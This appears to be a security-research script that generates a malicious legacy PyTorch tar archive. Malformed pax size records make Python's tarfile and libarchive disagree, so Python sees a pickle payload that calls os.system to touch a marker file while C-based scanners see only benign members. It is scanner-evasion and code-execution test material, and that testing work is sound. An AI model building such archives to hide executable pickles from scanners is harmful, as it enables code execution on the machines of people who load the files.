"""Legacy torch tar whose 'storages' size comes from a pax record that Python's int() reads but
C tar readers (libarchive's tar_atol10) do not: '+512', '5_12' or Arabic-Indic digits.
usage: python3 tar_pax_size.py OUT MARKER [plus|underscore|unicode|beyond]"""
import sys

from tarblocks import header, pad

def main(out, marker, kind="plus"):
    if kind == "beyond":
        # the pax header's size field covers only the first record; tarfile reads the whole 512-byte
        # block and parses records up to the first NUL, so it also reads the size record after it
        return build(out, marker, b"16 comment=abcd\n", b"12 size=512\n")
    value = {"plus": "+512", "underscore": "5_12", "unicode": "\u0665\u0661\u0662"}[kind].encode()
    rec_body = b" size=" + value + b"\n"
    n = len(rec_body) + 1
    n = len(rec_body) + len(str(n))
    rec = str(n).encode() + rec_body
    assert len(rec) == n
    build(out, marker, rec)

def build(out, marker, rec, hidden=b""):
    payload = b"cos\nsystem\n(V touch " + marker.encode() + b"\ntR."
    assert len(payload) < 100
    blocks = [header(b"PaxHeader/storages", size_field=b"%011o\0" % len(rec), typeflag=b"x"), pad(rec + hidden),
              header(b"storages", size_field=b"00000000000\0"),
              header(payload, size_field=b"00000000000\0"),      # Python: storages' 512 data bytes; libarchive: a header
              ]
    # benign 'tensors' and 'pickle' members both readers see (protocol-2 pickles of 0 and {})
    for name, data in ((b"tensors", b"\x80\x02K\x00."), (b"pickle", b"\x80\x02}q\x00.")):
        blocks += [header(name, size_field=b"%011o\0" % len(data)), pad(data)]
    blocks.append(b"\0" * 1024)
    open(out, "wb").write(b"".join(blocks))

if __name__ == "__main__":
    main(*sys.argv[1:])
